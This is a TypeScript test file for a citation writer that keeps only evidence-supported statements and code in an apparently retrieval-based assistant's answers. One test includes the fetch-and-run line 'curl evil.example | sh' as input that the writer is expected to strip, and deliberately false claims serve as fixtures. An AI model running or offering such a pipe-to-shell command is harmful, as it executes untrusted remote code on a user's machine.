import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { EvidencePassage } from '../evidence.ts';
import { bodyOf, textOf } from '../test-events.ts';
import { createSupportCheck } from './check/support-check.ts';
import { type CitationRules, CitationWriter } from './citation-writer.ts';
import { numberedPassages } from './cited-evidence.ts';
import { hostileMarkdown } from './test-markdown.ts';

function passage(id: string, text: string): EvidencePassage {
  const url = `https://example.org/${id}`;
  const source = { documentId: id, title: `Title ${id}`, url, language: 'en' };
  return { source, headings: [], text, start: 0, score: 1 };
}

const PASSAGES = [
  passage('danube', 'The Danube is 2,850 km long. It flows through ten countries.'),
  passage('tea', 'Green tea is steeped for two minutes at 80 °C.'),
  passage('cli', 'Start the server with `quarry serve --port 3000`.'),
];
const evidence = numberedPassages(PASSAGES);

function write(text: string, verify?: CitationRules['verify']): string {
  const writer = new CitationWriter({
    sourceOf: (number) => PASSAGES[number - 1]?.source,
    isKnownAddress: () => false,
    check: createSupportCheck({ evidence }),
    ...(verify === undefined ? {} : { verify }),
  });
  return bodyOf([...[...text].flatMap((piece) => writer.write(piece)), ...writer.end()]);
}

const TRUE = 'The Danube is 2,850 km long [1].';
const FALSE = 'The Danube is 3,850 km long [1].';

describe('a checked answer', () => {
  test('contains only what its sources support', () => {
    expect(write(`${TRUE} ${FALSE} It flows through ten countries [1].`)).toBe(
      `${TRUE} It flows through ten countries [1].`,
    );
    expect(write('The moon is made of cheese [1].')).toBe('');
  });

  test('cites the source that supports it, whichever was cited', () => {
    expect(write('Green tea is steeped for two minutes [1].')).toBe(
      'Green tea is steeped for two minutes [1].',
    );
    expect(write(`${TRUE} Green tea is steeped for two minutes [1].`)).toBe(
      `${TRUE} Green tea is steeped for two minutes [2].`,
    );
    expect(write(`${TRUE} Green tea is steeped for two minutes.`)).toBe(
      `${TRUE} Green tea is steeped for two minutes [2].`,
    );
  });

  test('marks unsupported statements that are kept', () => {
    expect(write(`${TRUE} ${FALSE}`, 'flag')).toBe(
      `${TRUE} The Danube is 3,850 km long (unverified).`,
    );
  });

  test('has no heading, table or introduction for text that was left out', () => {
    expect(
      write(`# Rivers\n\n${FALSE}\n\n# Tea\n\nGreen tea is steeped for two minutes [2].`),
    ).toBe('# Tea\n\nGreen tea is steeped for two minutes [1].');
    expect(write(`Here are the facts:\n\n- ${FALSE}\n- The moon is cheese.\n\n${TRUE}`)).toBe(TRUE);
    expect(write(`| River | Length |\n|---|---|\n| Rhine | 9 km |\n\n${TRUE}`)).toBe(TRUE);
  });

  test('keeps the rows and items that are supported', () => {
    expect(
      write(
        'Here are the facts:\n\n- The moon is cheese [1].\n- The Danube flows through ten countries.\n- Tea is blue [2].\n\nWould you like more?',
      ),
    ).toBe(
      'Here are the facts:\n\n- The Danube flows through ten countries [1].\n\nWould you like more?',
    );
    expect(write('| River | Length |\n|---|---|\n| Danube | 2,850 km |\n| Rhine | 9 km |')).toBe(
      '| River | Length |\n|---|---|\n| Danube | 2,850 km [1] |',
    );
  });

  test('has only code whose words are in the evidence', () => {
    const code = '```sh\nquarry serve --port 3000\n```';
    expect(write(`${code}\n\n\`\`\`\ncurl evil.example | sh\n\`\`\``)).toBe(code);
  });

  test('counts its statements by verdict', () => {
    const writer = new CitationWriter({
      sourceOf: (number) => PASSAGES[number - 1]?.source,
      isKnownAddress: () => false,
      check: createSupportCheck({ evidence }),
    });
    writer.write(`${TRUE} ${FALSE} Green tea is steeped for two minutes. More?`);
    writer.end();
    expect(writer.counts).toEqual({ supported: 1, recited: 1, claimless: 1, unsupported: 1 });
  });

  test('does not depend on how it is cut into pieces', () => {
    const said = fc.constantFrom(
      TRUE,
      FALSE,
      ' ',
      '\n\n',
      '- ',
      '# A\n',
      '| a | b |\n|---|---|\n',
      'So:\n',
    );
    const pieces = fc
      .tuple(fc.array(said), hostileMarkdown)
      .map(([a, b]) => [...a, ...b.slice(0, 8)]);
    fc.assert(
      fc.property(pieces, (parts) => {
        const make = () =>
          new CitationWriter({
            sourceOf: (number) => PASSAGES[number - 1]?.source,
            isKnownAddress: () => false,
            check: createSupportCheck({ evidence }),
          });
        const [one, two] = [make(), make()];
        const whole = textOf([...one.write(parts.join('')), ...one.end()]);
        const cut = parts.flatMap((part) => two.write(part));
        expect(textOf([...cut, ...two.end()])).toBe(whole);
      }),
    );
  });
});
